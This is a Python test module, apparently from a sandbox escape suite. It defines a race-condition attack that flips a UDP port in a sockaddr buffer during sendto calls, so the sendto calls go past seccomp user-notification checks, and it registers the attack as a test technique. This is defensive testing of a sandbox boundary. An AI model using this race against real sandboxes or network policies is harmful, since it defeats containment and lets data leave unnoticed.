"""Swap a datagram's port in memory while the host looks at a sendto."""

import ctypes
import struct
import threading
import time

from tests.escape.grants import another_port, send_udp
from tests.escape.technique import Granted, Technique


def attack(world):
    buffer = ctypes.create_string_buffer(world.ipv4(9))
    ports = (struct.pack("!H", 9), struct.pack("!H", world.udp))
    stop = time.monotonic() + 0.25 * world.slowness

    def flip():
        turn, place = 0, ctypes.addressof(buffer) + 2
        while time.monotonic() < stop:
            turn = not turn
            ctypes.memmove(place, ports[turn], 2)

    threads = [threading.Thread(target=flip) for _ in range(2)]
    for thread in threads:
        thread.start()
    descriptor = world.socket_raw(2, 2)
    while time.monotonic() < stop:
        world.libc.sendto(descriptor, b"loot", 4, 0, buffer, 16)
    for thread in threads:
        thread.join()
    ctypes.memmove(ctypes.addressof(buffer) + 2, ports[1], 2)  # threads that had no turn have swapped nothing
    world.libc.sendto(descriptor, b"loot", 4, 0, buffer, 16)


TECHNIQUE = Technique(
    source="seccomp_unotify(2): CONTINUE is no security decision on pointers",
    policy=another_port,
    event=("net.send", "net.connect"),
    by="kernel",
    syscall="sendto",
    stops=("notification",),
    control=Granted(send_udp),
)
